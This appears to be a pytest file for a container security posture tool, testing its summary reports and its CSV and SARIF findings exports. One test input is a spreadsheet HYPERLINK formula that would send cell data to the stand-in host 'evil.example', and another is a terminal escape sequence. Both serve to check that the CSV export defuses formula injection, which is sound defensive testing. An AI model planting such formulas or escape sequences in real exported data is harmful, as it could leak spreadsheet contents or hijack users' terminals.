"""``posture summary`` and ``posture findings --format csv|sarif`` end to end over a collected store."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy.engine import Engine

from collectors.k8s.keys import cluster_ref, namespace_ref, object_ref
from posture.cli.main import main
from posture.config import Settings
from posture.pipeline import collect
from posture.records import (
    AssetKind,
    AssetRecord,
    AssetRef,
    ObservationRecord,
    Record,
    RelationRecord,
    ScopeKind,
    ScopeRef,
)
from posture.reports.csv_export import cell
from posture.rules.base import Hit, Reference, Rule, RuleRegistry, Snapshot
from posture.run_stages import RunStages
from posture.taxonomy import CIS_DOCKER, Phase, Severity

T0 = datetime(2025, 5, 1, 9, 0, tzinfo=UTC)
T1 = datetime(2025, 5, 1, 9, 5, tzinfo=UTC)
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ENGINE_REF = AssetRef(AssetKind.DOCKER_ENGINE, "engine:cli")
IMAGE = AssetRef(AssetKind.IMAGE, "sha256:" + "c" * 64)


def _privileged(asset: AssetRecord, _snap: Snapshot) -> Iterator[Hit]:
    if asset.attributes.get("privileged"):
        yield Hit(evidence={"privileged": True})


RULES = [
    Rule(
        id="DKR-C01",
        title="Container runs privileged",
        severity=Severity.CRITICAL,
        phase=Phase.RUN,
        nist="3.4.3",
        remediation="Drop --privileged.",
        references=(Reference(CIS_DOCKER, "5.5"),),
        kinds=frozenset({AssetKind.CONTAINER}),
        evaluate=_privileged,
    ),
    Rule(
        id="VULN",
        title="Vulnerable package",
        severity=Severity.HIGH,
        phase=Phase.BUILD,
        nist="3.1.1",
        remediation="Upgrade the package.",
    ),
]


@dataclass
class _Source:
    @property
    def scope(self) -> ScopeRef:
        return ScopeRef(ScopeKind.DOCKER, "engine:cli")

    def collect(self) -> Iterator[Record]:
        yield AssetRecord(ENGINE_REF.kind, ENGINE_REF.key, "host-1", Phase.RUN, {})
        yield AssetRecord(IMAGE.kind, IMAGE.key, "shop/api:1", Phase.BUILD, {})
        for cid, name in (("c1", "web"), ("c2", FORMULA_NAME)):
            # A "namespace" attribute on a Docker container is only a label: no Kubernetes namespace.
            yield AssetRecord(
                AssetKind.CONTAINER,
                f"engine:cli/{cid}",
                name,
                Phase.RUN,
                {"privileged": True, "namespace": "shop", "labels": {"team": "web", "squad": "edge"}},
                ENGINE_REF,
            )
        yield RelationRecord(AssetRef(AssetKind.CONTAINER, "engine:cli/c1"), "runs", IMAGE)
        yield ObservationRecord(
            "VULN", IMAGE, "CVE-2024-9|zlib|1", "CVE-2024-9 in zlib", Severity.HIGH, {"fix_available": True}
        )


@dataclass
class _Cluster:
    """One namespace and a workload in it running the vulnerable image; by default the namespace's
    label names the team."""

    namespace_attrs: dict[str, Any] = field(default_factory=lambda: {"labels": {"squad": "payments"}})
    workload_attrs: dict[str, Any] = field(default_factory=dict)

    @property
    def scope(self) -> ScopeRef:
        return ScopeRef(ScopeKind.KUBERNETES, "prod")

    def collect(self) -> Iterator[Record]:
        namespace, workload = namespace_ref("prod", "shop"), object_ref("prod", "Deployment", "api", "shop")
        yield AssetRecord(AssetKind.CLUSTER, "prod", "prod", Phase.RUN, {})
        attrs = {"name": "shop", **self.namespace_attrs}
        yield AssetRecord(namespace.kind, namespace.key, "shop", Phase.RUN, attrs, cluster_ref("prod"))
        attrs = {"namespace": "shop", **self.workload_attrs}
        yield AssetRecord(workload.kind, workload.key, "shop/Deployment/api", Phase.RUN, attrs, namespace)
        yield RelationRecord(workload, "runs", IMAGE)


def _collect(engine: Engine, team_label: str, cluster: _Cluster | None = None) -> None:
    """Both sources, scored after each run as ``posture collect`` does, with ``team_label`` as the team label."""
    stages = RunStages(Settings(team_label=team_label))
    collect(engine, _Source(), RuleRegistry(RULES), now=T0, stages=stages)
    collect(engine, cluster or _Cluster(), RuleRegistry(RULES), now=T1, stages=stages)


@pytest.fixture
def db(engine: Engine, monkeypatch: pytest.MonkeyPatch) -> str:
    _collect(engine, "team")
    monkeypatch.setattr("posture.cli.context.default_registry", lambda: RuleRegistry(RULES))
    return str(engine.url)


def test_summary_json_and_text(db: str, capsys: pytest.CaptureFixture[str]) -> None:
    main(["score", "--db", db, "--format", "json"])
    scored = json.loads(capsys.readouterr().out)
    main(["summary", "--db", db, "--format", "json"])
    data = json.loads(capsys.readouterr().out)
    assert (data["score"]["score"], data["score"]["grade"]) == (scored["score"], scored["grade"])
    assert data["open"]["total"] == 3
    assert {h["source"]: h["status"] for h in data["health"]} == {
        "docker:engine:cli": "complete",
        "kubernetes:prod": "complete",
    }
    assert data["changes"]["counts"]["new"] == 3
    main(["summary", "--db", db])
    assert f"Score: {scored['score']:.0f}/100, grade {scored['grade']}" in capsys.readouterr().out


def _groups_by_score_command(db: str, by: str, capsys: pytest.CaptureFixture[str]) -> dict[str, dict[str, object]]:
    main(["score", "--db", db, "--by", by, "--format", "json"])
    return {g.pop("group"): g for g in json.loads(capsys.readouterr().out)}


def test_summary_risk_by_group_is_the_score_snapshots(db: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Teams, namespaces and NIST areas as scoring rolled them up: the image's CVE counts for the team
    running it, a namespace is named with its cluster, and ``posture score --by`` agrees figure for figure."""
    main(["summary", "--db", db, "--format", "json"])
    data = json.loads(capsys.readouterr().out)
    for key, by in (("by_team", "team"), ("by_namespace", "namespace"), ("by_area", "category")):
        expected = _groups_by_score_command(db, by, capsys)
        got = {g["name"]: g for g in data[key]}
        assert set(got) == set(expected), key
        for name, group in got.items():
            want = expected[name]
            assert (group["score"], group["grade"], group["open"], group["max_risk"]) == (
                want["score"],
                want["grade"],
                want["open"],
                want["max_risk"],
            ), (key, name)
    assert [g["name"] for g in data["by_namespace"]] == ["prod/shop"], "Kubernetes only, cluster-prefixed"
    team = {g["name"]: g for g in data["by_team"]}["web"]
    assert team["open"] == 3 and team["critical"] == 2 and team["high"] == 1, "the image CVE lands on its runner"
    assert {g["name"] for g in data["by_area"]} == {"container", "image"}
    assert "(unassigned)" not in json.dumps(data)


def test_summary_uses_the_configured_team_label(engine: Engine, capsys: pytest.CaptureFixture[str]) -> None:
    _collect(engine, "squad")
    main(["summary", "--db", str(engine.url), "--format", "json"])
    teams = {g["name"]: g["open"] for g in json.loads(capsys.readouterr().out)["by_team"]}
    assert teams == {"edge": 3, "payments": 1}, "containers by their label; the workload by its namespace's"


def test_summary_counts_an_annotated_workloads_image_for_its_team(
    engine: Engine, capsys: pytest.CaptureFixture[str]
) -> None:
    """No label names the team anywhere; the workload's annotation does (the image's CVE follows it)."""
    annotated = _Cluster({}, {"labels": {"app": "api"}, "annotations": {"example.com/owner": "payments"}})
    _collect(engine, "example.com/owner", annotated)
    main(["summary", "--db", str(engine.url), "--format", "json"])
    teams = json.loads(capsys.readouterr().out)["by_team"]
    assert [(t["name"], t["open"], t["high"]) for t in teams] == [("payments", 1, 1)]


def test_summary_html_to_a_file(db: str, tmp_path: Path) -> None:
    out = tmp_path / "report.html"
    main(["summary", "--db", db, "--format", "html", "--output", str(out)])
    html = out.read_text()
    assert html.startswith("<!DOCTYPE html>") and "grade" in html and "prod/shop" in html
    assert "<h2>Risk by NIST SP 800-190 area</h2>" in html


def test_summary_to_an_unwritable_place_is_one_line(
    db: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main(["summary", "--db", db, "--format", "html", "--output", str(tmp_path / "missing" / "r.html")])
    err = capsys.readouterr().err.strip()
    assert exit_info.value.code == 1 and len(err.splitlines()) == 1 and err.startswith("posture: error: summary:")


def test_findings_csv_defuses_formulas(db: str, capsys: pytest.CaptureFixture[str]) -> None:
    main(["findings", "--db", db, "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == 3
    names = {r["asset_name"] for r in rows}
    assert "'" + FORMULA_NAME in names and FORMULA_NAME not in names
    privileged = next(r for r in rows if r["asset_name"] == "web")
    assert (privileged["nist"], privileged["references"], privileged["remediation"]) == (
        "3.4.3",
        "CIS Docker Benchmark 1.6.0 5.5",
        "Drop --privileged.",
    )
    assert cell("-1+1") == "'-1+1" and cell("plain") == "plain" and cell("\x1b]52;c;x\x07") == "<U+001B>]52;c;x<U+0007>"


def test_findings_sarif(db: str, capsys: pytest.CaptureFixture[str]) -> None:
    main(["findings", "--db", db, "--format", "sarif"])
    log = json.loads(capsys.readouterr().out)
    assert log["version"] == "2.1.0" and log["$schema"].endswith("sarif-2.1.0.json")
    run = log["runs"][0]
    rules = {r["id"]: r for r in run["tool"]["driver"]["rules"]}
    assert set(rules) == {"DKR-C01", "VULN"}
    assert rules["DKR-C01"]["help"]["text"] == "Drop --privileged."
    assert "CIS Docker Benchmark 1.6.0 5.5" in rules["DKR-C01"]["properties"]["tags"]
    assert rules["DKR-C01"]["properties"]["security-severity"] == "9.5"
    results = run["results"]
    assert {r["level"] for r in results} == {"error"}
    for result in results:
        assert run["tool"]["driver"]["rules"][result["ruleIndex"]]["id"] == result["ruleId"]
        assert result["partialFingerprints"]["postureFingerprint/v1"]
        assert result["locations"][0]["logicalLocations"][0]["fullyQualifiedName"].split(":", 1)[0] in (
            "container",
            "image",
        )
